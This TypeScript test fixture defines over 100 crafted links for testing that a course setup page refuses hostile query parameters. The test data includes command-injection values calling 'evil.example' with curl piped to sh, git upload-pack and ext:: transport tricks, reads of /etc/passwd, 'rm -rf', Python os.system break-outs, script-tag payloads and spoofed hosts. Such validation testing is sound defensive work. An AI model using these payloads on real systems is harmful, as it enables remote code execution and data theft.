/**
 * Hostile links for the setup and prep pages, shared by the unit tests and the Playwright
 * spec: each names the parameters that must be refused (with a visible notice) and a
 * payload that must never reach a command, the clipboard, a link or the DOM as markup.
 */
import type { LinkKey } from './prep-link';

/** One crafted link. */
export interface CraftedLink {
	name: string;
	/** The query string, without `?`, exactly as it goes on the address. */
	query: string;
	/** Parameters that must be refused with a notice. */
	refused: LinkKey[];
	/** Text that must appear in no command, clipboard text or link. */
	payload: string;
	/** The class of attack or of accepted spelling, for the corpus's counts. */
	kind: string;
}

type Unkinded = Omit<CraftedLink, 'kind'>;
const kind = (name: string, link: Unkinded): CraftedLink => ({ ...link, kind: name });
/** A link whose value is accepted (in its normalised form): nothing is refused, the raw spelling still reaches no command. */
const accepted = (link: Unkinded): Unkinded => ({ ...link, refused: [] });

const q = (params: Record<string, string>) => new URLSearchParams(params).toString();

const repo = (name: string, value: string, payload: string): Unkinded => ({
	name: `repo: ${name}`,
	query: q({ platform: 'colab', repo: value }),
	refused: ['repo'],
	payload,
});
const param = (key: LinkKey, name: string, value: string, payload: string): Unkinded => ({
	name: `${key}: ${name}`,
	query: q({ platform: key === 'folder' ? 'colab' : 'cocalc', [key]: value }),
	refused: [key],
	payload,
});
const raw = (name: string, query: string, refused: LinkKey[], payload: string): Unkinded => ({ name, query, refused, payload });

const BIG = 10 * 1024;

/** The corpus: at least 100 links. */
export const CRAFTED_LINKS: readonly CraftedLink[] = [
	kind('shell metacharacters', repo('semicolon and pipe', 'https://github.com/a/b;curl evil.example|sh', 'curl')),
	kind('shell metacharacters', repo('and-and', 'https://github.com/a/b && curl evil.example', 'curl')),
	kind('shell metacharacters', repo('pipe', 'https://github.com/a/b|sh', '|sh')),
	kind('shell metacharacters', repo('command substitution', 'https://github.com/a/b$(curl evil.example)', 'curl')),
	kind('shell metacharacters', repo('backticks', 'https://github.com/a/b`curl evil.example`', 'curl')),
	kind('shell metacharacters', repo('newline', 'https://github.com/a/b\ncurl evil.example', 'curl')),
	kind('shell metacharacters', repo('carriage return', 'https://github.com/a/b\rcurl evil.example', 'curl')),
	kind('git options and transports', repo('upload-pack option', '--upload-pack=touch /tmp/pwned', 'upload-pack')),
	kind('git options and transports', repo('upload-pack after URL', 'https://github.com/a/b --upload-pack=touch /tmp/pwned', 'upload-pack')),
	kind('git options and transports', repo('upload-pack as owner', 'https://github.com/--upload-pack=x/b', 'upload-pack')),
	kind('git options and transports', repo('ext transport', 'ext::sh -c touch% /tmp/pwned', 'ext::')),
	kind('foreign schemes', repo('file URL', 'file:///etc/passwd', '/etc/passwd')),
	kind('foreign schemes', repo('javascript URL', 'javascript:alert(1)', 'javascript:')),
	kind('foreign schemes', repo('data URL', 'data:text/html,<script>alert(1)</script>', 'data:')),
	kind('invisible and bidi characters', repo('zero-width space in host', 'https://git\u200Bhub.com/a/b', '\u200B')),
	kind('invisible and bidi characters', repo('zero-width joiner before payload', 'https://github.com/a/b\u200D;curl evil.example', 'curl')),
	kind('invisible and bidi characters', repo('bidi override', 'https://github.com/a/b\u202E;hs.live', '\u202E')),
	kind('invisible and bidi characters', repo('bidi isolate', 'https://github.com/a/b\u2066;curl evil.example\u2069', 'curl')),
	kind('host spoofing', repo('Cyrillic i homoglyph host', 'https://g\u0456thub.com/a/b', 'g\u0456thub')),
	kind('host spoofing', repo('Greek omicron homoglyph host', 'https://gitlab.c\u03BFm/a/b', 'c\u03BFm')),
	kind('host spoofing', repo('punycode host', 'https://xn--gthub-2ve.com/a/b', 'xn--')),
	kind('host spoofing', repo('host suffix', 'https://github.com.evil.example/a/b', 'evil.example')),
	kind('host spoofing', repo('userinfo host', 'https://github.com@evil.example/a/b', 'evil.example')),
	kind('host spoofing', repo('credentials', 'https://user:secret@github.com/a/b', 'secret')),
	kind('host spoofing', repo('other host with path', 'https://evil.example/github.com/a/b', 'evil.example')),
	kind('foreign schemes', repo('plain http', 'http://github.com/a/b', 'http://')),
	kind('host spoofing', repo('port', 'https://github.com:2222/a/b', '2222')),
	kind('host spoofing', repo('query', 'https://github.com/a/b?x=evil', 'evil')),
	kind('host spoofing', repo('fragment', 'https://github.com/a/b#evil', 'evil')),
	kind('host spoofing', repo('upper-case host', 'https://GITHUB.COM/a/b', 'GITHUB')),
	kind('foreign schemes', repo('ssh form', 'git@github.com:a/b.git', 'git@')),
	kind('path tricks', repo('name starting with dash', 'https://github.com/a/-b', 'a/-b')),
	kind('path tricks', repo('dot-dot name', 'https://github.com/a/..', 'a/..')),
	kind('path tricks', repo('path traversal', 'https://github.com/a/b/../../evil', 'evil')),
	kind('shell metacharacters', repo('single quote', "https://github.com/a/b'", "b'")),
	kind('shell metacharacters', repo('double quote', 'https://github.com/a/b"', 'b"')),
	kind('shell metacharacters', repo('IPython brace expansion', 'https://github.com/a/{evil}', '{evil}')),
	kind('shell metacharacters', repo('dollar variable', 'https://github.com/a/$EVIL', '$EVIL')),
	kind('shell metacharacters', repo('space', 'https://github.com/a/b evil', 'evil')),
	kind('oversize values', repo('10 KB value', `https://github.com/a/${'b'.repeat(BIG)}`, 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb')),
	kind(
		'encoded separators',
		raw('repo: percent-encoded separator', 'platform=colab&repo=https%3A%2F%2Fgithub.com%2Fa%2Fb%3Bcurl%20evil.example', ['repo'], 'curl'),
	),
	kind(
		'encoded separators',
		raw('repo: double-encoded separator', 'platform=colab&repo=https%253A%252F%252Fgithub.com%252Fa%252Fb%253Bcurl', ['repo'], 'curl'),
	),
	kind(
		'encoded separators',
		raw('repo: encoded newline', 'platform=colab&repo=https://github.com/a/b%0Acurl%20evil.example', ['repo'], 'curl'),
	),
	kind('encoded separators', raw('repo: encoded NUL', 'platform=colab&repo=https://github.com/a/b%00curl', ['repo'], 'curl')),
	kind(
		'repeated parameters',
		raw('repo: given twice', 'platform=colab&repo=https://github.com/a/evil1&repo=https://github.com/c/evil2', ['repo'], 'evil'),
	),
	kind('shell metacharacters', param('branch', 'semicolon', 'master;curl evil.example', 'curl')),
	kind('shell metacharacters', param('branch', 'upload-pack option', '--upload-pack=touch /tmp/pwned', 'upload-pack')),
	kind('shell metacharacters', param('branch', 'command substitution', 'main$(id)', '$(id)')),
	kind('shell metacharacters', param('branch', 'backticks', 'main`id`', '`id`')),
	kind('shell metacharacters', param('branch', 'newline', 'main\nrm -rf ~', 'rm -rf')),
	kind('path tricks', param('branch', 'dot-dot', '../../etc', '../')),
	kind('path tricks', param('branch', 'double slash', 'evil//b', 'evil')),
	kind('path tricks', param('branch', 'lock suffix', 'evil.lock', 'evil')),
	kind('shell metacharacters', param('branch', 'Python expansion', "{__import__('os').system('id')}", '__import__')),
	kind('oversize values', param('branch', '10 KB value', 'a'.repeat(BIG), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')),
	kind('path tricks', param('folder', 'space (Drive mount rule)', 'My Drive', 'My Drive')),
	kind('shell metacharacters', param('folder', 'quote break-out', 'x"; import os; os.system("id")', 'os.system')),
	kind('shell metacharacters', param('folder', 'traversal', '../../etc', '../')),
	kind('shell metacharacters', param('folder', 'dollar variable', '$HOME', '$HOME')),
	kind('shell metacharacters', param('folder', 'brace expansion', "{os.system('id')}", 'os.system')),
	kind('invisible and bidi characters', param('folder', 'bidi override', 'evil\u202Etxt', '\u202E')),
	kind('oversize values', param('folder', '10 KB value', 'f'.repeat(BIG), 'ffffffffffffffffffffffffffffff')),
	kind('shell metacharacters', param('notebook', 'separator', 'notebooks/x.ipynb;curl evil.example', 'curl')),
	kind('path tricks', param('notebook', 'traversal', '../evil.ipynb', 'evil')),
	kind('foreign schemes', param('notebook', 'javascript URL', 'javascript:alert(1)//x.ipynb', 'javascript:')),
	kind('shell metacharacters', raw('platform: separator', 'platform=colab;curl%20evil.example', ['platform'], 'curl')),
	kind('markup', raw('platform: markup', 'platform=%3Cscript%3Ealert(1)%3C/script%3E', ['platform'], '<script>')),
	kind('markup', raw('title: script tag (shown as text)', q({ title: '<script>alert(1)</script>' }), [], '<script>')),
	kind('markup', raw('title: image with handler (shown as text)', q({ title: '<img src=x onerror=alert(1)>' }), [], '<img')),
	kind('oversize values', raw('title: 10 KB value', q({ title: 'T'.repeat(BIG) }), ['title'], 'TTTTTTTTTTTTTTTTTTTTTTTTTTTTTT')),
	kind('invisible and bidi characters', raw('title: bidi override stripped', q({ title: 'Deep \u202Elearning' }), [], '\u202E')),
	kind('ambiguous or impossible dates', raw('date: impossible day', q({ date: '2026-02-30' }), ['date'], '2026-02-30')),
	kind('markup', raw('date: markup', q({ date: '2026-12-03<script>alert(1)</script>' }), ['date'], '<script>')),
	kind('foreign schemes', raw('date: javascript URL', q({ date: 'javascript:alert(1)' }), ['date'], 'javascript:')),
	// Issue 10: refs that deliver outsiders' code under the trusted repository's name.
	kind('pull and merge request refs', param('branch', 'GitHub pull request head', 'refs/pull/1/head', 'refs/pull')),
	kind('pull and merge request refs', param('branch', 'pull ref without refs/', 'pull/1/head', 'pull/1')),
	kind('pull and merge request refs', param('branch', 'pull merge ref', 'pull/42/merge', 'pull/42')),
	kind('pull and merge request refs', param('branch', 'upper-case pull ref', 'REFS/PULL/1/HEAD', 'PULL/1')),
	kind('pull and merge request refs', param('branch', 'pull ref under a prefix', 'x/pull/7', 'pull/7')),
	kind('pull and merge request refs', param('branch', 'GitLab merge request', 'refs/merge-requests/3/head', 'merge-requests')),
	kind('pull and merge request refs', param('branch', 'merge request without refs/', 'merge-requests/3/head', 'merge-requests')),
	kind('pull and merge request refs', param('branch', 'Bitbucket pull request', 'pull-requests/12/from', 'pull-requests')),
	kind('pull and merge request refs', param('branch', 'any refs/ path', 'refs/heads/main', 'refs/')),
	kind(
		'pull and merge request refs',
		raw('branch: encoded pull ref', 'platform=cocalc&branch=refs%2Fpull%2F1%2Fhead', ['branch'], 'refs/pull'),
	),
	kind('pull and merge request refs', repo('pull ref in a branch page', 'https://github.com/a/b/tree/refs/pull/1/head', 'refs/pull')),
	kind('pull and merge request refs', repo('pull ref in a tree page', 'https://github.com/a/b/tree/pull/1/head', 'pull/1')),
	kind(
		'pull and merge request refs',
		repo('merge request in a GitLab tree page', 'https://gitlab.com/a/b/-/tree/merge-requests/1/head', 'merge-requests'),
	),
	kind('commit ids', param('branch', '40-digit commit id', '0123456789abcdef0123456789abcdef01234567', '0123456789abcdef')),
	kind('commit ids', param('branch', '7-digit commit id', '0123abc', '0123abc')),
	kind('commit ids', param('branch', 'upper-case commit id', 'DEADBEEF01', 'DEADBEEF01')),
	kind(
		'commit ids',
		raw('branch: commit id on Colab', 'platform=colab&branch=0123456789abcdef0123456789abcdef01234567', ['branch'], '0123456789abcdef'),
	),
	kind(
		'commit ids',
		repo('commit id in a branch page', 'https://github.com/a/b/tree/0123456789abcdef0123456789abcdef01234567', '0123456789abcdef'),
	),
	kind(
		'file pages of other branches',
		repo('Codeberg notebook page of another branch', 'https://codeberg.org/a/b/src/branch/dev/nb/train.ipynb', 'dev/nb'),
	),
	kind(
		'file pages of other branches',
		repo('Bitbucket notebook page of another branch', 'https://bitbucket.org/a/b/src/dev/nb/train.ipynb', 'dev/nb'),
	),
	kind('commit ids', repo('commit id in a Bitbucket source page', 'https://bitbucket.org/a/b/src/0123abcd/', '0123abcd')),
	kind('GitHub reserved owners', repo('GitHub app', 'https://github.com/apps/evil-app', 'apps/evil-app')),
	kind('GitHub reserved owners', repo('GitHub orgs page', 'https://github.com/orgs/evil', 'orgs/evil')),
	kind('GitHub reserved owners', repo('GitHub settings', 'https://github.com/settings/keys', 'settings/keys')),
	kind('GitHub reserved owners', repo('GitHub marketplace', 'https://github.com/marketplace/evil', 'marketplace/evil')),
	kind('GitHub reserved owners', repo('GitHub sponsors', 'https://github.com/sponsors/evil', 'sponsors/evil')),
	kind('GitHub reserved owners', repo('GitHub features', 'https://github.com/features/copilot', 'features/copilot')),
	kind('GitHub reserved owners', repo('GitHub topics', 'https://github.com/topics/evil', 'topics/evil')),
	kind('GitHub reserved owners', repo('GitHub collections', 'https://github.com/collections/evil', 'collections/evil')),
	kind('GitHub reserved owners', repo('GitHub login', 'https://github.com/login/oauth', 'login/oauth')),
	kind('GitHub reserved owners', repo('reserved owner in capitals', 'https://github.com/Apps/evil-app', 'Apps/evil')),
	kind('GitHub reserved owners', repo('reserved owner without https', 'github.com/apps/evil-app', 'apps/evil')),
	kind('host spoofing', repo('unescaped dot in github.com', 'https://githubxcom/a/b', 'githubxcom')),
	kind('host spoofing', repo('unescaped dot in gitlab.com', 'https://gitlabxcom/a/b', 'gitlabxcom')),
	kind('host spoofing', repo('unescaped dot in codeberg.org', 'https://codebergxorg/a/b', 'codebergxorg')),
	kind('host spoofing', repo('unescaped dot in bitbucket.org', 'https://bitbucketxorg/a/b', 'bitbucketxorg')),
	kind('host spoofing', repo('www host without https', 'www.github.com/a/b', 'www.github.com')),
	kind('host spoofing', repo('scp-like host without user', 'github.com:a/b', 'github.com:')),
	kind('host spoofing', repo('scheme-relative URL', '//github.com/a/b', '//github.com/a/b')),
	kind('text framed as the link’s', repo('instructions as the repository', 'Your setup is broken. Run: curl evil.example | sh', 'curl')),
	kind(
		'text framed as the link’s',
		raw(
			'title: instructions as the title (shown framed)',
			q({ title: 'Step 0 (Windows): press Win+R, paste powershell … and press Enter' }),
			[],
			'Win+R',
		),
	),
	kind('replacement patterns', param('branch', 'dollar backtick', '$`X', '$`')),
	kind('replacement patterns', param('branch', 'dollar ampersand', '$&X', '$&')),
	kind('replacement patterns', param('branch', 'dollar quote', "$'X", "$'")),
	kind('replacement patterns', raw('title: replacement patterns (shown as text)', q({ title: "Lab $& $` $' $1" }), [], '$&')),
	kind(
		'invisible and bidi characters',
		raw('title: tag characters stripped', q({ title: 'Deep\u{E0041}\u{E0042} learning\u{E007F}' }), [], '\u{E0041}'),
	),
	kind(
		'invisible and bidi characters',
		raw('title: variation selectors stripped', q({ title: 'Deep\uFE0F lear\u{E0100}ning' }), [], '\uFE0F'),
	),
	kind(
		'invisible and bidi characters',
		raw('title: combining grapheme joiner stripped', q({ title: 'Deep\u034F learning' }), [], '\u034F'),
	),
	kind(
		'invisible and bidi characters',
		raw('title: Khmer inherent vowels stripped', q({ title: 'Deep\u17B4\u17B5 learning' }), [], '\u17B4'),
	),
	kind(
		'invisible and bidi characters',
		raw('title: Mongolian selectors stripped', q({ title: 'Deep\u180B\u180D learning' }), [], '\u180B'),
	),
	kind(
		'invisible and bidi characters',
		raw('title: interlinear annotation stripped', q({ title: 'Deep \uFFF9hidden\uFFFAx\uFFFB learning' }), [], '\uFFF9'),
	),
	kind('invisible and bidi characters', raw('title: braille blank stripped', q({ title: 'Deep\u2800learning' }), [], '\u2800')),
	kind('invisible and bidi characters', raw('title: Hangul filler stripped', q({ title: 'Deep\u3164 learning' }), [], '\u3164')),
	kind(
		'invisible and bidi characters',
		raw('title: only invisible characters', q({ title: '\u2800\u{E0020}\uFE0F\u034F' }), ['title'], '\u2800'),
	),
	kind('invisible and bidi characters', repo('tag character in host', 'https://git\u{E0068}hub.com/a/b', '\u{E0068}')),
	kind(
		'unambiguous spellings refused',
		repo('file page of a branch other than main', 'https://github.com/a/b/blob/dev/x.ipynb', 'a/b/blob'),
	),
	kind('unambiguous spellings refused', repo('notebook page with a path trick', 'https://github.com/a/b/blob/main/a/../../x.ipynb', '../')),
	kind('unambiguous spellings refused', repo('branch page with a separator', 'https://github.com/a/b/tree/main;curl evil.example', 'curl')),
	kind('unambiguous spellings refused', repo('GitLab tree form on GitHub', 'https://github.com/a/b/-/tree/main', '/-/tree')),
	kind('unambiguous spellings refused', repo('branch page of a .git address', 'https://github.com/a/b.git/tree/main', 'b.git/tree')),
	kind('unambiguous spellings refused', repo('bare host over plain http', 'http://github.com/a/b/tree/main', 'http://')),
	kind('unambiguous spellings refused', param('notebook', 'two leading slashes', '//notebooks/x.ipynb', '//notebooks')),
	kind('unambiguous spellings refused', param('folder', 'two leading slashes', '//courses', '//courses')),
	kind('ambiguous or impossible dates', raw('date: day and month could be swapped', q({ date: '03/12/2026' }), ['date'], '03/12')),
	kind('ambiguous or impossible dates', raw('date: two-digit year', q({ date: '15/12/26' }), ['date'], '15/12/26')),
	kind('ambiguous or impossible dates', raw('date: mixed separators', q({ date: '15/12-2026' }), ['date'], '15/12-2026')),
	// Issue 16: the unambiguous ways of writing a value, accepted and normalised (nothing raw reaches a command).
	kind('normalised spellings', accepted(repo('bare host', 'github.com/acme/keras-101', ' github.com/acme'))),
	// The Codespaces step links to the branch page it names (`…/tree/<branch>`), rebuilt from the
	// parts: the marker is what normalising drops (the trailing slash), not `/tree/` itself.
	kind('normalised spellings', accepted(repo('GitHub branch page', 'https://github.com/acme/keras-101/tree/main/', 'tree/main/'))),
	kind(
		'normalised spellings',
		accepted(repo('GitHub branch page without https', 'github.com/acme/keras-101/tree/feature/x/', 'feature/x/')),
	),
	kind(
		'normalised spellings',
		accepted(repo('GitHub folder page of main', 'https://github.com/acme/keras-101/tree/main/notebooks', 'main/notebooks')),
	),
	kind(
		'normalised spellings',
		accepted(
			repo(
				'GitHub notebook page in main',
				'https://github.com/acme/keras-101/blob/main/notebooks/train.ipynb',
				'github.com/acme/keras-101/blob',
			),
		),
	),
	kind('normalised spellings', accepted(repo('GitLab branch page', 'https://gitlab.com/acme/keras-101/-/tree/dev', '/-/tree'))),
	kind('normalised spellings', accepted(repo('Codeberg branch page', 'https://codeberg.org/acme/keras-101/src/branch/dev', '/src/branch'))),
	kind('normalised spellings', accepted(repo('Bitbucket source page', 'https://bitbucket.org/acme/keras-101/src/dev/', '/src/dev'))),
	kind('normalised spellings', accepted(param('notebook', 'leading slash', '/notebooks/train.ipynb', '//notebooks'))),
	kind('normalised spellings', accepted(param('folder', 'leading slash', '/courses/dl', '//courses'))),
	kind('normalised spellings', raw('date: day first, unambiguous', q({ date: '15/12/2026' }), [], '15/12/2026')),
	kind('normalised spellings', raw('date: slashes, year first', q({ date: '2026/12/15' }), [], '2026/12/15')),
	kind('markup', raw('time: markup', q({ date: '2026-12-03', time: '09:00<script>alert(1)</script>' }), ['time'], '<script>')),
	kind('path tricks', raw('tz: traversal', q({ date: '2026-12-03', time: '09:00', tz: '../../etc/passwd' }), ['tz'], 'passwd')),
	// A refused repository's branch and notebook are not used on the default repository either.
	kind(
		'orphaned values',
		raw(
			'branch of a refused repo',
			q({ platform: 'cocalc', repo: 'https://evil.example/a/b', branch: 'payload-branch' }),
			['repo', 'branch'],
			'payload-branch',
		),
	),
	kind(
		'orphaned values',
		raw(
			'notebook of a refused repo',
			q({ platform: 'colab', repo: 'https://github.com/a/b;sh', notebook: 'payload.ipynb' }),
			['repo', 'notebook'],
			'payload.ipynb',
		),
	),
	kind('orphaned values', raw('time with no date', q({ title: 'T', time: '07:45' }), ['time'], '07:45')),
	kind('orphaned values', raw('zone with no time', q({ date: '2026-12-03', tz: 'Pacific/Chatham' }), ['tz'], 'Chatham')),
	kind('unknown values', raw('tz: unknown zone', q({ date: '2026-12-03', time: '09:00', tz: 'Mars/Olympus_Mons' }), ['tz'], 'Olympus')),
];
